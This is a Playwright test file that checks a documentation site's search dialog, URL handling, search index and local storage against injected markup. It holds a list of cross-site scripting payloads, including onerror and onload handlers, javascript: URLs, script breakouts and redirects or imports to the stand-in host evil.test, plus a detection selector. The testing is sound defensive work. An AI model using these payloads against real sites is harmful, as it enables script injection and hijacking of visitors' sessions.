import { createHash } from 'node:crypto';
import type { Page } from '@playwright/test';
import { expect, fixtureUrl, open, test } from '../support/test.ts';

test.use({ searchIndex: true });

/** Markup and code that would take effect if inserted as HTML; all of them create an `x-hostile`. */
const MARKUP = [
  '<x-hostile></x-hostile>',
  '<img src=x onerror="document.body.append(document.createElement(`x-hostile`))">',
  '<svg onload=import("//evil.test")><x-hostile>',
  '"><script>document.title="x-hostile"</script><x-hostile>',
  "'-alert(1)-'<x-hostile>",
  '</script><x-hostile><script>',
  '</title></style></textarea><x-hostile>',
  '<iframe srcdoc="<x-hostile>"></iframe><x-hostile>',
  '<a href="javascript:alert(1)"><x-hostile></a>',
  '<math><mtext><table><mglyph><style><x-hostile>',
  '<template><x-hostile></template><x-hostile>',
  '<base href="//evil.test/"><x-hostile>',
  '<meta http-equiv=refresh content="0;url=//evil.test"><x-hostile>',
  '<form><button formaction="javascript:alert(1)"><x-hostile>',
  '<!--><x-hostile>-->',
  '{{constructor.constructor("alert(1)")()}}<x-hostile>',
  '$' + '{alert(1)}<x-hostile>',
  '$t(search.label) {{query}}<x-hostile>',
  '__proto__<x-hostile>',
  '\u202e<x-hostile>\u0000',
];

/** Encodings of the same text. */
const FORMS: ((text: string) => string)[] = [
  (text) => text,
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '&lt;'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => JSON.stringify({ value: text, html: text, toString: text }),
  (text) => `javascript:/*${text}*/alert(1)`,
  (text) => `//evil.test/${text}`,
  (text) => `${'%'.repeat(7)}${text}\ud800`,
  (text) => text.repeat(40),
];

const PAYLOADS = MARKUP.flatMap((text) => FORMS.map((form) => form(text)));

/** Added to every page by the init script, see {@link found}. */
type Watched = Window & { found: () => string[] };

/** Injected elements in the page, and violations of the Content Security Policy. */
const found = (page: Page) => page.evaluate(() => (window as unknown as Watched).found());

test.beforeEach(async ({ page }) => {
  await page.addInitScript(() => {
    const forbidden: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sourceFile }) =>
      forbidden.push(`${effectiveDirective} ${sourceFile}`),
    );
    const selector = 'x-hostile, [onerror], [onload], [srcdoc], [href^="javascript:"], [src*="evil.test"]';
    const strangers = () => [...document.querySelectorAll(selector)].map((element) => element.outerHTML);
    Object.assign(window, { found: () => [...forbidden, ...strangers()] });
  });
});

test('200 hostile strings in the URL and in fields are never executed', async ({ page, baseURL }) => {
  expect(new Set(PAYLOADS).size).toBe(200);
  await open(page, '/api/');
  await page.getByRole('searchbox', { name: 'Filter' }).fill('mock');
  for (let start = 0; start < PAYLOADS.length; start += 40) {
    const texts = PAYLOADS.slice(start, start + 40);
    const strange = await page.evaluate(async (all) => {
      const write = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')?.set;
      const field = document.querySelector<HTMLInputElement>('main input');
      const seen: string[] = [];
      for (const text of all) {
        const address = new URL(location.pathname, location.href);
        for (const name of ['filter', 'search', 'navbar', text]) address.searchParams.set(name, text);
        history.replaceState(null, '', address);
        location.hash = text;
        write?.call(field, text);
        field?.dispatchEvent(new InputEvent('input', { bubbles: true }));
        await new Promise((resolve) => setTimeout(resolve));
        seen.push(...(window as unknown as Watched).found());
      }
      const address = new URL(location.href);
      for (const text of all) address.searchParams.set(text, text.slice(0, 9));
      history.replaceState(null, '', address);
      return seen;
    }, texts);
    expect(strange, texts.join('\n')).toEqual([]);
    // sets all of them in the URL while the page loads
    await open(page, page.url());
    expect(await found(page), texts.at(-1) ?? '').toEqual([]);
  }
  expect(new URL(page.url()).origin).toBe(baseURL);
});

test('hostile strings can be searched, found and saved unchanged', async ({ page }) => {
  const payloads = PAYLOADS.slice(0, 2);
  const json = payloads.map((content, index) => ({ routePath: '/api/', title: `Page ${index}`, content }));
  for (const [index, payload] of payloads.entries()) {
    await page.context().route('**/search.json', (route) => route.fulfill({ json: [json[index]] }));
    await open(page, `/api/?search=${encodeURIComponent(payload)}`);
    const dialog = page.getByRole('dialog', { name: 'Search docs' });
    await expect(dialog.getByRole('combobox')).toHaveValue(payload);
    // listed below the title of its page
    await expect(dialog.getByRole('option').first()).toHaveText(`Page ${index}${payload}`);
    await page.keyboard.press('Enter');
    await expect(dialog).toBeHidden();
    await page.keyboard.press('Control+k');
    const recent = dialog.getByRole('group', { name: 'Recent searches' });
    await expect(recent.getByRole('option').first()).toHaveText(payload);
    expect(await found(page), payload).toEqual([]);
  }
});

test('hostile strings in the search index are shown literally', async ({ page }) => {
  const [first = '', ...others] = MARKUP.map((text, index) => `needle ${index} ${text}`);
  const body = JSON.stringify(
    others.slice(0, 7).map((title, index) => ({
      id: String(index),
      routePath: index % 2 ? `/page-${index}` : 'javascript:alert(1)',
      title,
      content: `${first} ${title}`,
      toc: [{ id: title, text: title, depth: 2, charIndex: 0 }],
      frontmatter: {},
    })),
  );
  // an index is only accepted if its content matches the hash in its name
  const index = `assets/search/search_index.en.${createHash('sha256').update(body).digest('hex').slice(0, 8)}.json`;
  const json = [{ version: '', lang: 'en', prefix: '', index, texts: [] }];
  await page.context().route('**/search.json', (route) => route.fulfill({ json }));
  await page
    .context()
    .route(`**/${index}`, (route) => route.fulfill({ contentType: 'application/json', body }));
  await open(page, '/api/?search=needle');
  const dialog = page.getByRole('dialog', { name: 'Search docs' });
  // three of the seven results link to a page
  await expect(dialog.getByRole('group')).toHaveCount(3);
  await expect(dialog.getByRole('group').filter({ hasText: others[1] ?? '' })).toBeVisible();
  expect(await found(page)).toEqual([]);
});

test('hostile strings in storage are ignored', async ({ page }) => {
  await open(page, fixtureUrl('one-language', '/guide/tabs'));
  const names = ['rspress-theme-appearance', 'rspress-visited', 'docs-recent-searches', 'docs-recent-pages'];
  for (const payload of PAYLOADS.filter((_, index) => index % 27 === 0)) {
    await page.evaluate(
      ([names, text]) => {
        const groups = [...document.querySelectorAll<HTMLElement>('[data-island="Tabs"]')].map(
          ({ dataset }) => `rspress.tabs.${JSON.parse(dataset.props ?? '{}').groupId}`,
        );
        for (const name of [...names, ...groups]) localStorage.setItem(name, text);
        sessionStorage.setItem('docs.sidebar', text);
      },
      [names, payload] as const,
    );
    await page.reload();
    await page.locator('#root[data-ready]').waitFor({ state: 'attached' });
    expect(await found(page), payload).toEqual([]);
    await expect(page.getByRole('tabpanel').first()).toBeVisible();
    await expect(page.locator('html')).toHaveAttribute('data-theme', /^(?:light|dark)$/);
  }
});
